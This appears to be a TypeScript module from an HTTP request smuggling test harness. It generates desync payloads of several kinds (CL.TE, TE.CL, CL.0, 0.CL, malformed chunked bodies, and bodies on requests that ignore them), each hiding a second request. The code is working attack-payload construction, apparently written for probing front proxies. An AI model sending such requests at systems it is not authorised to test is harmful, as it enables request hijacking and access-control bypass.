import { besideLines, chunk, chunkedBodies, contentLengths, requestLines, transferEncodings } from './framings.js';

/** One request with another hidden in it. All text is Latin-1. */
export type Attempt = {
  readonly family: string;
  /** What is odd about it, as it goes over the wire; where a front hands it on as it is, these bytes arrive. */
  readonly odd: string;
  readonly bytes: (parts: Parts) => string;
};

/** What an attempt is made of. */
type Parts = {
  /** The request within, as bytes. */
  readonly hidden: string;
  /** Lines of the request around it, without the first and without those that say how long it is. */
  readonly headers: readonly string[];
};

const ordinary = 'POST /v1/wallet_kit_config HTTP/1.1';

const request = (line: string, headers: readonly string[], framing: readonly string[], body: string): string =>
  [line, ...headers, ...framing, '', body].join('\r\n');

/** The length ends after the last chunk's line or before the hidden request; the chunks, the other way round. */
const bothFramings = transferEncodings.flatMap((coding): Attempt[] => {
  const around = (family: string, body: (hidden: string) => string, length: (hidden: string) => number): Attempt[] => {
    const lines = (hidden: string) => [coding, `Content-Length: ${length(hidden)}`];
    return [
      { family, odd: coding, bytes: ({ hidden, headers }) => request(ordinary, headers, lines(hidden), body(hidden)) },
      {
        family,
        odd: coding,
        bytes: ({ hidden, headers }) => request(ordinary, headers, lines(hidden).reverse(), body(hidden)),
      },
    ];
  };
  const whole = (hidden: string) => `${chunk(hidden)}0\r\n\r\n`;
  return [
    ...around(
      'CL.TE',
      (hidden) => `0\r\n\r\n${hidden}`,
      (hidden) => hidden.length + 5,
    ),
    ...around('TE.CL', whole, (hidden) => hidden.length.toString(16).length + 2),
    ...around('TE and CL: 0', whole, () => 0),
    {
      family: 'TE alone',
      odd: coding,
      bytes: ({ hidden, headers }) => request(ordinary, headers, [coding], `0\r\n\r\n${hidden}`),
    },
    {
      family: 'TE alone',
      odd: coding,
      bytes: ({ hidden, headers }) => request(ordinary, headers, [coding], whole(hidden)),
    },
  ];
});

/** The hidden request is the body, or the body of a second one whose head the odd length covers. */
const oddLengths = contentLengths.flatMap((line): Attempt[] => {
  const [odd = ''] = line(0).split('0'); // what stands before the number
  return [
    {
      family: 'CL.CL, CL.0',
      odd,
      bytes: ({ hidden, headers }) => request(ordinary, headers, [line(hidden.length)], hidden),
    },
    {
      family: '0.CL',
      odd,
      bytes: ({ hidden, headers }) => {
        const head = request(ordinary, headers.map(withoutMarker), [`Content-Length: ${hidden.length}`], '');
        return request(ordinary, headers, [line(head.length)], head + hidden);
      },
    },
  ];
});

const withoutMarker = (line: string): string => line.replace('X-Marker', 'X-Second');

const oddChunks = chunkedBodies.map(
  (body): Attempt => ({
    family: 'chunks',
    odd: body('').split('\r\n\r\n')[0] ?? '',
    bytes: ({ hidden, headers }) => request(ordinary, headers, ['Transfer-Encoding: chunked'], body(hidden)),
  }),
);

/** A body where none is expected, or where something else decides what becomes of it: by length, and in chunks. */
const ignoredBodies = [
  ...requestLines.map((line) => ({ family: 'request lines', line, beside: [] })),
  ...besideLines.map((beside) => ({ family: 'other lines', line: ordinary, beside: [beside] })),
  ...besideLines.map((beside) => ({ family: 'other lines', line: 'GET /health HTTP/1.1', beside: [beside] })),
].flatMap(({ family, line, beside }): Attempt[] => {
  const odd = beside[0] ?? line;
  return [
    {
      family,
      odd,
      bytes: ({ hidden, headers }) => request(line, headers, [...beside, `Content-Length: ${hidden.length}`], hidden),
    },
    {
      family,
      odd,
      bytes: ({ hidden, headers }) =>
        request(line, headers, [...beside, 'Transfer-Encoding: chunked'], `${chunk(hidden)}0\r\n\r\n`),
    },
    {
      family,
      odd,
      bytes: ({ hidden, headers }) =>
        request(
          line,
          headers,
          [...beside, `Content-Length: ${hidden.length + 5}`, 'Transfer-Encoding: chunked'],
          `0\r\n\r\n${hidden}`,
        ),
    },
  ];
});

/** Every attempt, each once. */
export const attempts: readonly Attempt[] = [...bothFramings, ...oddLengths, ...oddChunks, ...ignoredBodies];
